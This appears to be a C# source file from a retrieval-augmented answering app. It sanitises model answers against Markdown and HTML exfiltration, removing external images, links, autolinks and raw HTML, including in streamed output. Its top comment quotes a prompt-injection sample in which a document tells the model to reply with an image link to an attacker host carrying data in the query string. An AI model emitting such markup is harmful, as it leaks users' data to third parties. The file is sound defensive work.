using System.Text;
using System.Text.RegularExpressions;
using Markdig;
using Markdig.Syntax;
using Markdig.Syntax.Inlines;

namespace PrivateRag.Core.Answering;

/// <summary>
/// Removes what an answer could use to make a reader's client call out (OWASP LLM05): raw HTML, and Markdown images,
/// links, autolinks and link reference definitions that point anywhere but this app. A document that says "reply with
/// ![x](https://attacker/?q=...)" gets its alt text shown, nothing fetched. Applied on the server to the JSON answer,
/// the streamed deltas and the stored turn, so every client (UI, widget, API, OpenAI-compatible clients) is covered.
/// </summary>
/// <remarks>
/// The answer is parsed as Markdown (Markdig, CommonMark plus the GitHub extensions clients render: tables and bare-URL
/// autolinks), not matched with patterns, so a label's length, newlines or nested brackets change nothing. Offending
/// nodes are replaced in the source text: a link or image by its label, an autolink by nothing, a bare external URL by
/// a code span (shown, not clickable), raw HTML by its text without tags, an external definition by nothing. The
/// result is parsed again until nothing changes (a replacement can expose markup, e.g. a link nested in an image's
/// label); a literal <c>&lt;</c> that a lenient renderer might still take for a tag is escaped.
/// </remarks>
public static partial class AnswerSanitizer
{
    /// <summary>Adversarial nesting deeper than this is flattened to inert text (every bracket and angle escaped).</summary>
    private const int MaxPasses = 12;

    // Two parses, because extensions change what is a link: "[a|b](url)" is a link for a client without tables, and
    // split into cells (no link) for one with them. Both views must be clean.
    private static readonly MarkdownPipeline[] Views =
    [
        new MarkdownPipelineBuilder().UsePreciseSourceLocation().UseAutoLinks().UsePipeTables().UseEmphasisExtras().UseListExtras().UseTaskLists().Build(),
        new MarkdownPipelineBuilder().UsePreciseSourceLocation().UseAutoLinks().Build(),
    ];

    // A definition as lenient renderers see it even where CommonMark does not (e.g. directly under a paragraph line).
    [GeneratedRegex(@"^[ ]{0,3}\[(?:[^\]\\]|\\.)+\]:[ \t]*\n?[ \t]*<?(?<url>[^\s>]+)>?[^\n]*$", RegexOptions.Multiline)]
    private static partial Regex DefinitionLike();

    [GeneratedRegex(@"<!--.*?-->|<[^>]*>", RegexOptions.Singleline)]
    private static partial Regex Tag();

    /// <summary>The answer with every outbound image, link, autolink, definition and raw HTML removed.</summary>
    public static string Sanitize(string text)
    {
        ArgumentNullException.ThrowIfNull(text);
        for (var pass = 0; pass < MaxPasses; pass++)
        {
            var before = text;
            foreach (var view in Views) text = SanitizeOnce(text, view);
            text = DefinitionLike().Replace(text, m => AppUrls.IsAppRelative(m.Groups["url"].Value) ? m.Value : "");
            if (text == before) return text;
        }
        return Inert(text);
    }

    private static string SanitizeOnce(string text, MarkdownPipeline view)
    {
        if (text.Length == 0) return text;
        var document = Markdown.Parse(text, view);
        var edits = new List<Edit>();
        foreach (var node in document.Descendants())
        {
            switch (node)
            {
                case LinkInline link when link.IsAutoLink && !AppUrls.IsAppRelative(link.Url):
                    edits.Add(new Edit(link.Span, CodeSpan(Source(text, link.Span))));
                    break;
                case LinkInline link when !AppUrls.IsAppRelative(link.Url):
                    edits.Add(new Edit(link.Span, Label(text, link)));
                    break;
                case AutolinkInline autolink:
                    edits.Add(new Edit(autolink.Span, ""));
                    break;
                case HtmlInline html:
                    edits.Add(new Edit(html.Span, ""));
                    break;
                case HtmlBlock block:
                    edits.Add(new Edit(block.Span, Tag().Replace(Source(text, block.Span), "")));
                    break;
                case LinkReferenceDefinition definition when !AppUrls.IsAppRelative(definition.Url):
                    edits.Add(new Edit(definition.Span, ""));
                    break;
                case LiteralInline literal when literal.Span.Length > 1 && LooksLikeTag(text, literal.Span):
                    edits.Add(new Edit(literal.Span, EscapeTagStarts(Source(text, literal.Span))));
                    break;
            }
        }
        return Apply(text, edits);
    }

    /// <summary>Applies the outermost edits, last first; inner ones are met again in the next pass.</summary>
    private static string Apply(string text, List<Edit> edits)
    {
        if (edits.Count == 0) return text;
        var outermost = new List<Edit>();
        foreach (var edit in edits.Where(e => e.Span.Start >= 0 && e.Span.End < text.Length && e.Span.End >= e.Span.Start)
                     .OrderBy(e => e.Span.Start).ThenByDescending(e => e.Span.End))
        {
            if (outermost.Count > 0 && edit.Span.Start <= outermost[^1].Span.End) continue;
            outermost.Add(edit);
        }
        var result = new StringBuilder(text);
        for (var i = outermost.Count - 1; i >= 0; i--)
        {
            var (span, replacement) = outermost[i];
            result.Remove(span.Start, span.Length).Insert(span.Start, replacement);
        }
        return result.ToString();
    }

    /// <summary>A link's text or an image's alt text, as written (its own markup is sanitised in the next pass).</summary>
    private static string Label(string text, LinkInline link)
    {
        if (link.FirstChild is null) return "";
        var start = link.FirstChild.Span.Start;
        var end = link.LastChild!.Span.End;
        return start >= 0 && end >= start && end < text.Length ? text[start..(end + 1)] : "";
    }

    private static string Source(string text, SourceSpan span) => text.Substring(span.Start, span.Length);

    private static string CodeSpan(string value)
    {
        var fence = value.Contains('`', StringComparison.Ordinal) ? "`` " : "`";
        return fence + value + (fence.Length > 1 ? " ``" : "`");
    }

    private static bool LooksLikeTag(string text, SourceSpan span)
    {
        for (var i = span.Start; i < span.End; i++)
        {
            if (text[i] == '<' && IsTagStart(text[i + 1])) return true;
        }
        return false;
    }

    private static bool IsTagStart(char c) => char.IsAsciiLetter(c) || c is '/' or '!' or '?';

    /// <summary>CommonMark shows these as text already; the escape keeps renderers that accept sloppier HTML from disagreeing.</summary>
    private static string EscapeTagStarts(string literal)
    {
        var result = new StringBuilder(literal.Length + 4);
        for (var i = 0; i < literal.Length; i++)
        {
            if (literal[i] == '<' && i + 1 < literal.Length && IsTagStart(literal[i + 1]) && (i == 0 || literal[i - 1] != '\\')) result.Append('\\');
            result.Append(literal[i]);
        }
        return result.ToString();
    }

    /// <summary>Plain text no Markdown renderer turns into markup: every bracket, bang and angle escaped.</summary>
    private static string Inert(string text)
    {
        var result = new StringBuilder(text.Length + 16);
        foreach (var c in text)
        {
            if (c is '[' or ']' or '<' or '>' or '!' or '(' or ')') result.Append('\\');
            result.Append(c);
        }
        return result.ToString();
    }

    private readonly record struct Edit(SourceSpan Span, string Replacement);
}

/// <summary>Which URLs an answer (and the UI) may keep: only addresses inside this app.</summary>
public static class AppUrls
{
    /// <summary>
    /// True for a relative reference that stays on this site (<c>docs/a</c>, <c>/x?y</c>, <c>#p2</c>); false for
    /// anything with a scheme (<c>https:</c>, <c>javascript:</c>, <c>data:</c>), protocol-relative (<c>//host</c>),
    /// backslash tricks or control characters that browsers would strip (<c>/&#9;/host</c> is <c>//host</c> to them).
    /// </summary>
    public static bool IsAppRelative(string? url)
    {
        if (string.IsNullOrWhiteSpace(url)) return false;
        var u = url.Trim();
        foreach (var c in u)
        {
            if (char.IsControl(c) || c == '\\') return false;
        }
        if (u.StartsWith("//", StringComparison.Ordinal)) return false;
        var colon = u.IndexOf(':', StringComparison.Ordinal);
        if (colon >= 0)
        {
            var delimiter = u.IndexOfAny(['/', '?', '#']);
            if (delimiter < 0 || colon < delimiter) return false; // a scheme
        }
        return Uri.TryCreate(u, UriKind.Relative, out _);
    }
}

/// <summary>
/// Sanitises a streamed answer piece by piece. Text is released only up to a point where no construct is still open,
/// so a construct is always sanitised whole, however long its label and however the model splits it; what might still
/// become a link, image, autolink or tag is held back (without a size cap) until it is complete or the stream ends.
/// Each released piece is sanitised on its own: an inline construct cannot reach across a released boundary, so the
/// pieces a client concatenates are as clean as the pieces themselves.
/// </summary>
public sealed class StreamingAnswerSanitizer
{
    private readonly StringBuilder _pending = new();

    /// <summary>Adds model output; returns the sanitised text that is safe to send now (possibly empty).</summary>
    public string Push(string delta)
    {
        ArgumentNullException.ThrowIfNull(delta);
        _pending.Append(delta);
        var text = _pending.ToString();
        var cut = SafeCut(text);
        if (cut == 0) return "";
        _pending.Remove(0, cut);
        return AnswerSanitizer.Sanitize(text[..cut]);
    }

    /// <summary>Everything still held, sanitised: call once when the model is done.</summary>
    public string Complete()
    {
        var rest = AnswerSanitizer.Sanitize(_pending.ToString());
        _pending.Clear();
        return rest;
    }

    /// <summary>The length of the longest prefix in which every construct that starts is also closed.</summary>
    internal static int SafeCut(string text)
    {
        // A bare URL becomes a link only whole: hold the last word back until whitespace follows it.
        var limit = text.Length;
        if (limit > 0 && !char.IsWhiteSpace(text[^1]))
        {
            var space = text.AsSpan().LastIndexOfAny(" \t\n\r");
            limit = space + 1;
        }
        // A construct is released whole or not at all: one that is still open, or that closes beyond the limit, keeps
        // everything from its start.
        for (var i = 0; i < limit; i++)
        {
            int end;
            switch (text[i])
            {
                case '\\':
                    i++; // an escaped character starts nothing
                    continue;
                case '!' when i + 1 >= limit:
                    return i;
                case '!' when text[i + 1] == '[':
                    if (!LinkIsComplete(text, i + 1, out end) || end >= limit) return i;
                    break;
                case '[':
                    if (!LinkIsComplete(text, i, out end) || end >= limit) return i;
                    break;
                case '<':
                    end = TagEnd(text, i);
                    if (end < 0 || end >= limit) return i;
                    break;
                default:
                    continue;
            }
            i = end;
        }
        return limit;
    }

    /// <summary>
    /// Whether the bracket at <paramref name="open"/> can no longer become part of a link or definition: its label is
    /// closed and what follows is settled (a destination closed, a reference label closed, or anything else).
    /// </summary>
    private static bool LinkIsComplete(string text, int open, out int end)
    {
        end = Matching(text, open, '[', ']');
        if (end < 0 || end == text.Length - 1) return false;
        switch (text[end + 1])
        {
            case '(':
                var close = Destination(text, end + 1);
                if (close < 0) return false;
                end = close;
                return true;
            case '[':
                var reference = Matching(text, end + 1, '[', ']');
                if (reference < 0) return false;
                end = reference;
                return true;
            case ':':
                // A definition runs to the end of its line, and its title may be on the next one: wait for a blank line.
                var blank = text.IndexOf("\n\n", end, StringComparison.Ordinal);
                if (blank < 0) return false;
                end = blank;
                return true;
            default:
                return true;
        }
    }

    /// <summary>The index of the bracket closing the one at <paramref name="open"/> (nesting and escapes counted), or -1.</summary>
    private static int Matching(string text, int open, char opening, char closing)
    {
        var depth = 0;
        for (var i = open; i < text.Length; i++)
        {
            if (text[i] == '\\') { i++; continue; }
            if (text[i] == opening) depth++;
            else if (text[i] == closing && --depth == 0) return i;
        }
        return -1;
    }

    /// <summary>The closing parenthesis of an inline link's destination and title, or -1 while it is still open.</summary>
    private static int Destination(string text, int open)
    {
        var depth = 0;
        char? quote = null;
        var angle = false;
        for (var i = open; i < text.Length; i++)
        {
            var c = text[i];
            if (c == '\\') { i++; continue; }
            if (quote is { } q) { if (c == q) quote = null; continue; }
            if (angle) { if (c == '>') angle = false; continue; }
            switch (c)
            {
                case '<': angle = true; break;
                case '"' or '\'' when depth == 1 && i > open + 1: quote = c; break;
                case '(': depth++; break;
                case ')' when --depth == 0: return i;
            }
        }
        return -1;
    }

    /// <summary>
    /// Where the <c>&lt;</c> at <paramref name="open"/> closes: a tag, comment or autolink at its <c>&gt;</c> outside
    /// quotes (-1 while open); a <c>&lt;</c> that cannot start one (<c>3 &lt; 4</c>) at itself.
    /// </summary>
    private static int TagEnd(string text, int open)
    {
        if (open + 1 >= text.Length) return -1;
        var next = text[open + 1];
        if (!(char.IsAsciiLetter(next) || next is '/' or '!' or '?')) return open;
        if (text.AsSpan(open).StartsWith("<!--", StringComparison.Ordinal))
        {
            var close = text.IndexOf("-->", open + 4, StringComparison.Ordinal);
            return close < 0 ? -1 : close + 2;
        }
        char? quote = null;
        for (var i = open + 1; i < text.Length; i++)
        {
            var c = text[i];
            if (quote is { } q) { if (c == q) quote = null; continue; }
            if (c is '"' or '\'') quote = c;
            else if (c == '>') return i;
        }
        return -1;
    }
}
